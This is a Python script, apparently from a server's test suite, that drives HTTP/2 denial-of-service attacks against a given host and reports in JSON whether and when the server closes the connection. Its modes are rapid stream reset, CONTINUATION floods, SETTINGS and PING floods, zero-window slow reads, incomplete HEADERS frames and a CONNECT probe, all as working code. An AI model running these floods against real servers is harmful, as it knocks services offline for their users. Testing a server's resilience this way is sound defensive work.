#!/usr/bin/python3
"""HTTP/2 attack clients for the attack suite (python3-h2, Debian's /usr/bin/python3).

usage: h2_attack.py MODE HOST PORT SNI SECONDS
modes:
  zero-window      advertise a zero stream window, request a large body, answer pings
  incomplete-head  send a HEADERS frame without END_HEADERS, then nothing
  rapid-reset      open and reset streams as fast as possible
  continuation     HEADERS then an endless CONTINUATION flood
  settings-flood   SETTINGS frames as fast as possible
  ping-flood       PING frames as fast as possible
  connect          a CONNECT request; prints the status
Prints one JSON line: {"closed_after": seconds or null, "status": int or null}.
"""
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from h2.settings import SettingCodes


def connect(host, port, sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=10)
    tls = ctx.wrap_socket(raw, server_hostname=sni)
    tls.settimeout(0.2)
    return tls


def h2conn(initial_window=None, validate=True):
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_outbound_headers=validate
        )
    )
    if initial_window is not None:
        conn.local_settings = h2.settings.Settings(
            client=True,
            initial_values={SettingCodes.INITIAL_WINDOW_SIZE: initial_window, SettingCodes.ENABLE_PUSH: 0},
        )
    conn.initiate_connection()
    return conn


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(sni, path, method="GET"):
    return [(":method", method), (":scheme", "https"), (":authority", sni), (":path", path)]


def pump(tls, conn, deadline, on_event=None):
    """Reads until the server closes or the deadline; returns seconds until close or None."""
    start = time.time()
    while time.time() < deadline:
        try:
            data = tls.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            return time.time() - start
        if not data:
            return time.time() - start
        if conn is not None:
            try:
                events = conn.receive_data(data)
            except Exception:
                return time.time() - start
            for event in events:
                if on_event:
                    on_event(event)
                if isinstance(event, h2.events.ConnectionTerminated):
                    return time.time() - start
            out = conn.data_to_send()
            if out:
                try:
                    tls.sendall(out)
                except OSError:
                    return time.time() - start
    return None


def main():
    mode, host, port, sni, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
    tls = connect(host, port, sni)
    start = time.time()
    deadline = start + seconds
    result = {"closed_after": None, "status": None}
    if mode == "zero-window":
        conn = h2conn(initial_window=0)
        conn.send_headers(1, headers(sni, "/download?bytes=20000000"), end_stream=True)
        tls.sendall(conn.data_to_send())
        result["closed_after"] = pump(tls, conn, deadline)
    elif mode == "connect":
        conn = h2conn(validate=False)
        conn.send_headers(1, [(":method", "CONNECT"), (":authority", sni)], end_stream=False)
        tls.sendall(conn.data_to_send())

        def on_event(event):
            if isinstance(event, h2.events.ResponseReceived):
                result["status"] = int(dict(event.headers)[":status"])

        while time.time() < deadline and result["status"] is None:
            if pump(tls, conn, min(deadline, time.time() + 0.5), on_event) is not None:
                break
    elif mode == "incomplete-head":
        conn = h2conn()
        tls.sendall(conn.data_to_send())
        # HEADERS for stream 1 without END_HEADERS: a block that never completes.
        tls.sendall(frame(0x1, 0x0, 1, bytes([0x82, 0x87])))
        result["closed_after"] = pump(tls, None, deadline)
    else:
        conn = h2conn()
        tls.sendall(conn.data_to_send())
        stream = 1
        try:
            while time.time() < deadline:
                if mode == "rapid-reset":
                    burst = b""
                    for _ in range(100):
                        hdr = conn.send_headers(stream, headers(sni, "/slow?ms=1000"), end_stream=True)
                        conn.reset_stream(stream)
                        stream += 2
                    burst = conn.data_to_send()
                elif mode == "continuation":
                    if stream == 1:
                        burst = frame(0x1, 0x0, 1, bytes([0x82, 0x87]))
                        stream = 3
                    else:
                        burst = frame(0x9, 0x0, 1, b"\x40\x01a\x01b" * 200) * 20
                elif mode == "settings-flood":
                    burst = frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100)) * 200
                elif mode == "ping-flood":
                    burst = frame(0x6, 0x0, 0, b"12345678") * 200
                else:
                    raise SystemExit("unknown mode " + mode)
                tls.sendall(burst)
                try:
                    data = tls.recv(65536)
                    if not data:
                        raise ConnectionError
                except (socket.timeout, ssl.SSLWantReadError):
                    pass
        except (ConnectionError, ssl.SSLError, OSError, Exception):
            result["closed_after"] = time.time() - start
    print(json.dumps(result))


if __name__ == "__main__":
    main()
